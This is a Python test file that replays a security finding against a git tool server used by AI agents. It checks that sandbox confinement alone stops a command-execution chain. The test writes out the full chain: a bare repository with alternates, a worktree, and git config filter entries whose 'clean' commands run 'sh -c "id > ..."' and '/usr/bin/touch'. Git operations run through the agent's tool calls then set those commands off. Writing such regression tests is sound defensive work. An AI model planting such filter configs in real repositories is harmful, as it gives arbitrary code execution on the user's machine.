"""The git host-command chain (findings/core.md F1), replayed against the real git server.

On this branch the git server's own fix is not in: the chain runs an agent-chosen program
when the server runs unconfined (the control), and confinement alone must stop it — no file
written, no process started. The agent's file writes are done by the test directly (they are
plain writes into the sandbox, which the policy allows). If the git server gains
``--test-only-trust-repository`` (its repository checks off, for this replay), it is passed.
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from tests.confinement.conftest import REPO_ROOT, World
from tests.servers.conftest import result_text, stdio_session

pytestmark = pytest.mark.anyio


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


def _trust_flag() -> list[str]:
    usage = subprocess.run(
        [sys.executable, "-m", "appliance.cli", "serve", "git", "--help"],
        cwd=REPO_ROOT,
        capture_output=True,
        text=True,
        timeout=60,
    ).stdout
    return ["--test-only-trust-repository"] if "--test-only-trust-repository" in usage else []


async def _replay(world: World, confine: bool) -> tuple[Path, Path]:
    """Run the chain; returns the two proof files the agent's programs would create."""
    s = world.sandbox
    by_shell, direct = s / "proof-by-shell", s / "proof-direct"
    flags = [] if confine else ["--no-confine"]
    argv = [*flags, "git", "--base-dir", str(s), *_trust_flag()]
    async with stdio_session(argv, env=world.env(), cwd=s) as git:

        async def call(tool: str, **args: object) -> str:
            result = await git.call_tool(tool, args)
            return result_text(result)

        await call("git_init", path=f"{s}/w")
        (s / "w" / "f.txt").write_text("hello\n")
        await call("git_add", path=f"{s}/w", files=["f.txt"])
        commit = await git.call_tool("git_commit", {"path": f"{s}/w", "message": "m"})
        sha = commit.structured_content["commitHash"]
        await call("git_init", path=f"{s}/b", bare=True)
        (s / "b" / "objects" / "info" / "alternates").write_text("../../w/.git/objects\n")
        (s / "b" / "refs" / "heads" / "master").write_text(sha + "\n")
        await call("git_worktree", path=f"{s}/b", mode="add", worktreePath=f"{s}/w/sub")
        config = (s / "b" / "config").read_text()
        (s / "b" / "config").write_text(
            config
            + f'[filter "x"]\n\tclean = sh -c "id > {by_shell}; cat"\n'
            + f'[filter "y"]\n\tclean = /usr/bin/touch {direct}\n'
        )
        (s / "w" / "sub" / ".gitattributes").write_text("*.txt filter=x\n*.md filter=y\n")
        (s / "w" / "sub" / "g.md").write_text("more\n")
        await call("git_add", path=f"{s}/w", files=["sub"])
        (s / "w" / "sub" / "f.txt").write_text("changed\n")
        (s / "w" / "sub" / "g.md").write_text("changed too\n")
        await call("git_status", path=f"{s}/w")
    return by_shell, direct


async def test_f1_chain_runs_a_program_when_unconfined(world: World) -> None:
    """Control: the reproducer still works against this server when nothing confines it."""
    by_shell, direct = await _replay(world, confine=False)
    if not (by_shell.exists() or direct.exists()):
        pytest.skip("the git server itself now stops the chain; the confined test still stands")
    assert by_shell.exists() and "uid=" in by_shell.read_text()


async def test_f1_chain_stopped_by_confinement_alone(world: World) -> None:
    by_shell, direct = await _replay(world, confine=True)
    assert not by_shell.exists(), "the agent's shell command ran under confinement"
    assert not direct.exists(), "the agent's program ran under confinement"
